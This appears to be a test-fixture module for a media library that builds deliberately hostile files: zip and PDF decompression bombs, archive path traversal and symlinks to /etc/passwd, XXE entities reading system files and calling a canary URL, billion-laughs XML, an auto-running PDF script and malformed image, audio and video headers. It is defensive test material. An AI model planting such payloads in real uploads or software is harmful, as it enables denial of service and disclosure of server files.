import { crc32, deflateSync } from 'node:zlib'
import { packZip } from '@amn/tools/make-library/pack/zip'

const mebibyte = 1 << 20
const text = (name: string, body: string) => ({ name, bytes: Buffer.from(body) })

const chunk = (name: string, body: Buffer) => {
  const named = Buffer.concat([Buffer.from(name, 'latin1'), body])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(body.length)
  sum.writeUInt32BE(crc32(named))
  return Buffer.concat([length, named, sum])
}
/** A PNG of one bit a pixel that says it is so large; `rows` of it are there. */
function makePng(width: number, height: number, rows = height): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head[8] = 1
  const pixels = deflateSync(Buffer.alloc(rows * (1 + Math.ceil(width / 8))))
  const parts = [chunk('IHDR', head), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), ...parts])
}
const page = makePng(40, 60)

/** Changes the central directory of a zip of one entry: where in its record, how many bytes, to what. */
function withEntry(zip: Buffer, at: number, value: number, isShort = false): Buffer {
  const changed = Buffer.from(zip)
  const entry = changed.lastIndexOf(Buffer.from('PK\x01\x02', 'latin1'))
  if (isShort) changed.writeUInt16LE(value, entry + at)
  else changed.writeUInt32LE(value >>> 0, entry + at)
  return changed
}
const onePage = packZip([{ name: '1.png', bytes: page, stored: true }])
const zeros = packZip([{ name: '1.png', bytes: Buffer.alloc(256 * mebibyte) }])
const link = packZip([{ ...text('1.png', '/etc/passwd'), stored: true }])

/** An entry of a tar: a file, or a link of either kind to another place. */
function packTar(entries: { name: string; body?: Buffer; link?: string; kind?: '1' | '2' }[]): Buffer {
  const blocks = entries.flatMap(({ name, body = Buffer.alloc(0), link: to = '', kind }) => {
    const head = Buffer.alloc(512)
    head.write(name, 0)
    head.write('0000644\0', 100)
    head.write(`${body.length.toString(8).padStart(11, '0')}\0`, 124)
    head.write('00000000000\0', 136)
    head.write('        ', 148)
    head.write(kind ?? '0', 156)
    head.write(to, 157)
    head.write('ustar\x0000', 257, 'latin1')
    const sum = head.reduce((total, byte) => total + byte, 0)
    head.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148)
    return [head, body, Buffer.alloc((512 - (body.length % 512)) % 512)]
  })
  return Buffer.concat([...blocks, Buffer.alloc(1024)])
}

/** The head of a 7z whose directory says that there are two thousand million files. */
function makeHuge7z(): Buffer {
  const header = Buffer.from([0x01, 0x05, 0xf0, 0xff, 0xff, 0xff, 0x7f, 0x00])
  const start = Buffer.alloc(20)
  start.writeUInt32LE(header.length, 8)
  start.writeUInt32LE(crc32(header), 16)
  const sum = Buffer.alloc(4)
  sum.writeUInt32LE(crc32(start))
  return Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), sum, start, header])
}

const laughs = (root: string) => {
  const levels = Array.from({ length: 12 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`)
  return `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY l0 "ha">${levels.join('')}]><${root}><Title>&l12;</Title><title>&l12;</title></${root}>`
}
const foreign = (root: string, canary: string) =>
  `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "${canary}/dtd">]><${root}><Title>&x;&y;</Title><title>&x;</title></${root}>`

const container =
  '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="b.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
const book = (body: string, before = '', href = 'a.xhtml') =>
  packZip([
    { ...text('mimetype', 'application/epub+zip'), stored: true },
    text('META-INF/container.xml', container),
    text(
      'b.opf',
      `<?xml version="1.0"?>${before}<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Hostile</dc:title></metadata><manifest><item id="a" href="${href}" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>`,
    ),
    text('a.xhtml', body),
  ])

const xhtml = (body: string) => `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body>${body}</body></html>`

/** A PDF with one page whose contents unpack to so many bytes, and which wants to run something when it is opened. */
function makePdf(size: number, canary: string): Buffer {
  const packed = deflateSync(Buffer.alloc(size, ' '))
  const script = `<< /S /JavaScript /JS (app.launchURL\\("${canary}/pdf"\\)) >>`
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] /Contents 4 0 R /AA << /O << /S /URI /URI (${canary}/uri) >> >> >>\nendobj\n4 0 obj\n<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n`,
    ),
    packed,
    Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'),
  ])
}

/** A tag of an MP3 that says that its picture is larger than any file. */
function makeRecording(): Buffer {
  const head = Buffer.from([0x49, 0x44, 0x33, 3, 0, 0, 0x7f, 0x7f, 0x7f, 0x7f])
  const frame = Buffer.concat([
    Buffer.from('APIC'),
    Buffer.from([0x7f, 0xff, 0xff, 0xff, 0, 0]),
    Buffer.from('\0image/png\0\x03\0', 'latin1'),
  ])
  return Buffer.concat([head, frame, Buffer.alloc(4000)])
}

/** An MP4 in which boxes lie in boxes without end, and one that says that it has a size of 2⁶³. */
function makeFilm(): Buffer {
  const box = (name: string, size: number) => {
    const head = Buffer.alloc(8)
    head.writeUInt32BE(size)
    head.write(name, 4)
    return head
  }
  const deep = Array.from({ length: 20_000 }, (_, at) => box('moov', (20_000 - at) * 8))
  const large = Buffer.concat([box('mdat', 1), Buffer.from([0x7f, 255, 255, 255, 255, 255, 255, 255])])
  return Buffer.concat([box('ftyp', 16), Buffer.from('isom\0\0\0\0', 'latin1'), large, ...deep])
}

/** A playlist under the name of a film, as a way to other files and servers. */
const playlist = (canary: string) => `#EXTM3U\n#EXTINF:10,\nfile:///etc/passwd\n#EXTINF:10,\n${canary}/playlist.ts\n`

/** Files made to cost too much, to lie, to reach other files or to call out, by their place in a library. */
export function hostileFiles(canary: string): Record<string, Buffer> {
  const many = Array.from({ length: 19_000 }, (_, at) => ({ name: `${at}.png`, bytes: Buffer.alloc(0), stored: true }))
  const comics = {
    Ratio: zeros,
    'Small lie': withEntry(zeros, 24, 10),
    'Large lie': withEntry(withEntry(onePage, 24, 0x7fff_ffff), 20, 0x7fff_ffff),
    Checksum: withEntry(onePage, 16, 1),
    Link: withEntry(link, 38, 0o120_777 * 65_536),
    'Many entries': packZip(many),
    'Many said': Buffer.concat([onePage.subarray(0, -14), Buffer.from([0xff, 0xff, 0xff, 0xff]), onePage.subarray(-10)]),
    Cut: onePage.subarray(0, 90),
    'No zip': Buffer.from('<html>The download was refused</html>'.repeat(10)),
    Outside: packZip([
      { name: '../../../../tmp/outside.png', bytes: page },
      { name: '/etc/1.png', bytes: page },
      text('..\\..\\x.png', 'x'),
    ]),
    'Large picture': packZip([{ name: '1.png', bytes: makePng(30_000, 30_000) }]),
    'Endless picture': packZip([{ name: '1.png', bytes: makePng(2 ** 31 - 1, 2 ** 31 - 1, 0) }]),
    Drawing: packZip([
      text('1.png', `<svg xmlns="http://www.w3.org/2000/svg" onload="ran.push('svg')"><image href="${canary}/svg"/></svg>`),
    ]),
    Laughs: packZip([{ name: '1.png', bytes: page }, text('ComicInfo.xml', laughs('ComicInfo'))]),
    Foreign: packZip([{ name: '1.png', bytes: page }, text('ComicInfo.xml', foreign('ComicInfo', canary))]),
  }
  const books = {
    'Foreign package': book(xhtml('<p>words</p>'), '<!DOCTYPE package [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    'Foreign document': book(`<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>${xhtml('<p>&x;</p>')}`),
    'Laughing document': book(laughs('html')),
    'Outside book': book(xhtml('<p>words</p>'), '', '../../../../../../etc/passwd'),
    'Deep document': book(xhtml(`${'<div>'.repeat(60_000)}deep`)),
    'Large document': book(xhtml('<p>large</p>'.repeat(6_000_000))),
  }
  const others = {
    'Manga/Tar links/Tar links.cbt': packTar([
      { name: '1.png', link: '/etc/passwd', kind: '2' },
      { name: '2.png', link: '/etc/passwd', kind: '1' },
      { name: '../../3.png', body: page },
    ]),
    'Manga/Huge/Huge.cb7': makeHuge7z(),
    'Other/Large/Large.png': makePng(30_000, 30_000),
    'Other/Endless/Endless.png': makePng(2 ** 31 - 1, 2 ** 31 - 1, 0),
    'Book/Bomb/Bomb.pdf': makePdf(400 * mebibyte, canary),
    'Book/Line/Line.txt': Buffer.alloc(4 * mebibyte, 'a'),
    'Audiobook/Tag/Tag.mp3': makeRecording(),
    'Movie/Boxes (2001)/Boxes (2001).mp4': makeFilm(),
    'Movie/Playlist (2001)/Playlist (2001).mkv': Buffer.from(playlist(canary)),
    'Movie/Notes (2001)/Notes (2001).mkv': Buffer.from(playlist(canary)),
    'Movie/Notes (2001)/movie.nfo': Buffer.from(foreign('movie', canary)),
    'Movie/Deep (2001)/Deep (2001).mkv': Buffer.from(playlist(canary)),
    'Movie/Deep (2001)/movie.nfo': Buffer.from(`<movie>${'<a>'.repeat(200_000)}`),
  }
  const named = (type: string, files: Record<string, Buffer>, ending: string) =>
    Object.entries(files).map(([title, bytes]) => [`${type}/${title}/${title}.${ending}`, bytes] as const)
  return { ...Object.fromEntries([...named('Manga', comics, 'cbz'), ...named('Book', books, 'epub')]), ...others }
}
